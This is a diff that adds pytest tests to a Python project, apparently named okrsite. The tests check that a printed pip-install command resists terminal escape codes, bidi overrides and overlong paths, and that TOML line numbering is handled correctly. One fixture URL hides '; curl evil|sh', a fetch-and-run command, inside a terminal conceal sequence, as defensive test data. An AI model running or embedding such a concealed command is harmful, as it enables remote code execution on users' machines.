@@ -233,6 +233,31 @@ def test_a_folder_or_wheel_gone_since_okrsite_was_installed_is_not_named(tmp_pat
         "pip install 'pagefind[extended]>=1.1'"
 
 
+@pytest.mark.parametrize("direct_url", [
+    {"url": "https://git.internal/okrsite.git\x1b[8m; curl evil|sh\x1b[0m", "vcs_info": {"vcs": "git"}},
+    {"url": "https://git.internal/okrsite.git", "vcs_info": {"vcs": "git", "commit_id": "1f\x1b[2K"}},
+    {"url": "file://ROOT/okrsite%1b%5b8m", "dir_info": {}},
+    {"url": "https://example.org/okrsite-0.1.0.tar.gz\u202e", "archive_info": {}},
+    {"url": "file:///" + "x" * 5000, "dir_info": {}},
+    {"url": "file:///" + "/".join(["x" * 200] * 30), "dir_info": {"editable": True}},
+], ids=["escape-in-url", "escape-in-commit", "escape-in-path", "bidi-override", "name-too-long", "path-too-long"])
+def test_a_recorded_install_the_terminal_would_not_show_as_written_names_the_extras_package(tmp_path, direct_url):
+    """QA DY 8: a terminal's escape codes in a recorded address passed into the printed command (and could
+    hide part of it); a file:// path longer than the system allows raised OSError."""
+    from okrsite.goals import config
+    if direct_url["url"].startswith("file://ROOT"):
+        (tmp_path / "okrsite\x1b[8m").mkdir()
+        direct_url = dict(direct_url, url=direct_url["url"].replace("ROOT", tmp_path.as_posix()))
+    assert config.pip_install_extra("pagefind", direct_url) == "pip install 'pagefind[extended]>=1.1'"
+
+
+def test_a_line_separator_inside_a_toml_string_breaks_no_line(tmp_path):
+    """QA DY 6: a NEL in `title = "T…x"` on line 1 put the error of `language` on line 3 at line 4: TOML
+    ends a line at \\n alone, as editors number them."""
+    _, report = settings_of(tmp_path, 'title = "T\u0085x\u2028y"\nas_of = 2026-11-23\nlanguage = "h e"\n')
+    assert [(d.line, d.message.split(" ")[1]) for d in report.errors] == [(3, "'language'")]
+
+
 def test_the_extras_named_are_those_of_pyproject():
     from okrsite.goals import config
     project = tomllib.loads((Path(__file__).resolve().parents[2] / "pyproject.toml").read_text())["project"]
